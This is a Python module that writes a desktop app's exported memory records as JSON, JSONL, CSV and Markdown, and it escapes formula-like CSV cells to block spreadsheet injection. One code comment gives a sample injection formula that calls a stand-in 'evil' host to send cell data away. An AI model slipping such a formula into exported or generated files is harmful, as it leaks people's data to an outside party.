"""Writers for the export formats: the JSON bundle and JSONL (lossless), Markdown (for reading), CSV.

Each writer streams: memories arrive one at a time, links and events are asked for afterwards with
the ids that were written, so a filtered export carries only what connects exported memories.
"""

from __future__ import annotations

import csv
import json
from collections.abc import Callable, Iterable, Iterator
from datetime import datetime
from typing import Any, TextIO

from hindsight_desktop.core.portable.own_format import FIELDS
from hindsight_desktop.core.timeutil import from_db

Related = Callable[[set[str]], Iterator[dict[str, Any]]]
Trailer = Callable[[], dict[str, Any]]  # fields written after every record (the seal), asked for last
LAYER_ORDER = ("semantic", "procedural", "episodic", "working")


def _dump(value: Any) -> str:
    return json.dumps(value, ensure_ascii=False)


def write_json(
    out: TextIO,
    header: dict[str, Any],
    memories: Iterable[dict[str, Any]],
    links: Related,
    events: Related,
    trailer: Trailer | None = None,
) -> dict[str, int]:
    """One JSON object: the header's fields, then "memories", "links" and "events" arrays, then the
    trailer's fields."""
    out.write("{\n")
    for key, value in header.items():
        out.write(f"  {_dump(key)}: {_dump(value)},\n")
    ids: set[str] = set()
    counts = {"memories": _array(out, "memories", _collect(memories, ids), last=False)}
    counts["links"] = _array(out, "links", links(ids), last=False)
    counts["events"] = _array(out, "events", events(ids), last=trailer is None)
    if trailer is not None:
        fields = list(trailer().items())
        for i, (key, value) in enumerate(fields, 1):
            out.write(f"  {_dump(key)}: {_dump(value)}{',' if i < len(fields) else ''}\n")
    out.write("}\n")
    return counts


def _collect(memories: Iterable[dict[str, Any]], ids: set[str]) -> Iterator[dict[str, Any]]:
    for record in memories:
        ids.add(record["id"])
        yield record


def _array(out: TextIO, name: str, items: Iterable[dict[str, Any]], last: bool) -> int:
    out.write(f"  {_dump(name)}: [")
    n = 0
    for item in items:
        out.write(("\n    " if n == 0 else ",\n    ") + _dump(item))
        n += 1
    out.write(("\n  ]" if n else "]") + ("\n" if last else ",\n"))
    return n


def write_jsonl(
    out: TextIO,
    header: dict[str, Any],
    memories: Iterable[dict[str, Any]],
    links: Related,
    events: Related,
    trailer: Trailer | None = None,
) -> dict[str, int]:
    """One JSON object per line, each tagged with "record": header, memory, link or event; the trailer's
    fields last, on a line of their own tagged "seal"."""
    out.write(_dump({"record": "header", **header}) + "\n")
    ids: set[str] = set()
    counts = {"memories": 0, "links": 0, "events": 0}
    for name, items in (("memory", _collect(memories, ids)), ("link", None), ("event", None)):
        source = items if items is not None else (links(ids) if name == "link" else events(ids))
        for item in source:
            out.write(_dump({"record": name, **item}) + "\n")
            counts["memories" if name == "memory" else name + "s"] += 1
    if trailer is not None:
        out.write(_dump({"record": "seal", **trailer()}) + "\n")
    return counts


def write_csv(
    out: TextIO,
    header: dict[str, Any],
    memories: Iterable[dict[str, Any]],
    links: Related,
    events: Related,
    trailer: Trailer | None = None,
) -> dict[str, int]:
    """One row per memory, every field; entities and metadata as JSON text. No links or history."""
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(FIELDS)
    n = 0
    for record in memories:
        writer.writerow([_cell(record.get(name)) for name in FIELDS])
        n += 1
    return {"memories": n, "links": 0, "events": 0}


# A spreadsheet runs a cell that starts with one of these as a formula (CSV injection): a memory reading
# `=HYPERLINK("http://evil/?"&A1)` would send the person's data away when the file is opened.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_safe(text: str) -> str:
    """Text a spreadsheet shows as text: a leading apostrophe before a formula-like start.

    >>> csv_safe("=1+1"), csv_safe("-2"), csv_safe("plain")
    ("'=1+1", "'-2", 'plain')
    """
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def _cell(value: Any) -> Any:
    if isinstance(value, bool):
        return int(value)
    if isinstance(value, dict | list):
        return csv_safe(_dump(value))
    if isinstance(value, str):
        return csv_safe(value)
    return "" if value is None else value


def write_markdown(
    out: TextIO,
    header: dict[str, Any],
    memories: Iterable[dict[str, Any]],
    links: Related,
    events: Related,
    trailer: Trailer | None = None,
) -> dict[str, int]:
    """For a person to read: grouped by layer, then by day (newest first), times in local time."""
    by_layer: dict[str, list[tuple[datetime, dict[str, Any]]]] = {}
    n = 0
    for record in memories:
        when = from_db(record["occurred_at"])
        assert when is not None
        by_layer.setdefault(record["layer"], []).append((when.astimezone(), _brief(record)))
        n += 1
    zone = datetime.now().astimezone().strftime("UTC%z")
    out.write(f"# Hindsight Desktop memories\n\nExported {header['exported_at']}; {n} memories; times in {zone}.\n")
    for layer in sorted(by_layer, key=lambda name: LAYER_ORDER.index(name) if name in LAYER_ORDER else 99):
        out.write(f"\n## {layer.capitalize()}\n")
        day = None
        for when, record in sorted(by_layer[layer], key=lambda item: item[0], reverse=True):
            if when.date() != day:
                day = when.date()
                out.write(f"\n### {day.isoformat()}\n\n")
            out.write(_line(when, record))
    return {"memories": n, "links": 0, "events": 0}


def _brief(record: dict[str, Any]) -> dict[str, Any]:
    return {k: record[k] for k in ("id", "content", "type", "importance", "pinned", "status", "client")}


def _line(when: datetime, record: dict[str, Any]) -> str:
    notes = [record["type"], f"importance {record['importance']:.2f}", f"by {record['client']}"]
    if record["pinned"]:
        notes.append("pinned")
    if record["status"] != "active":
        notes.append(record["status"])
    text = " ".join(record["content"].split())  # one list item per memory, even for multi-line text
    return f"- {when.strftime('%H:%M')} {text} _({', '.join(notes)}; `{record['id']}`)_\n"


# One writer for each name in records.EXPORT_FORMATS (tests/unit/core/store/test_store_ops.py checks that they agree).
WRITERS = {"json": write_json, "jsonl": write_jsonl, "md": write_markdown, "csv": write_csv}
